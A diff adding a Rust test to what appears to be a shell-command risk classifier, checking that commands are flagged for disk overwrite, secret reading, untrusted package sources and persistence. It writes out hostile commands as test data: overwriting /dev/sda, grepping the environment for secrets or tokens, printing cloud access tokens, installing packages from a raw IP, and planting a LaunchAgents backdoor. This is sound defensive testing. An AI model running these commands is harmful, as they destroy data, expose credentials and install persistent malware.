@@ -773,3 +773,32 @@ fn braces_sourcing_and_piped_uploads() {
     );
     assert!(!kinds("cat report.json | curl -d @- https://x.example").contains(&UploadExternalFile));
 }
+
+#[test]
+fn devices_environment_searches_and_official_registries() {
+    assert_risk("cp /dev/zero /dev/sda", DiskOverwrite);
+    assert!(
+        !kinds("cp /dev/sda disk.img").contains(&DiskOverwrite),
+        "reading a disk"
+    );
+    assert!(kinds("true 2>/dev/null || echo no").is_empty());
+    assert_risk("env | grep -i secret", SecretRead);
+    assert_risk("printenv | grep TOKEN", SecretRead);
+    assert!(!kinds("env | grep -i path").contains(&SecretRead));
+    assert_risk("gcloud auth print-access-token", SecretRead);
+    assert!(
+        kinds("export T=$(gcloud auth print-access-token)").is_empty(),
+        "captured, not shown"
+    );
+    assert!(kinds("pip install --index-url https://pypi.org/simple requests").is_empty());
+    assert!(kinds("npm config get registry").is_empty());
+    assert_risk(
+        "pip install -i http://203.0.113.5/simple x",
+        UntrustedPackageSource,
+    );
+    assert!(
+        kinds("rm -rf ~/.npm/_cacache").is_empty(),
+        "a package cache"
+    );
+    assert_risk("cp backdoor.plist ~/Library/LaunchAgents/", Persistence);
+}
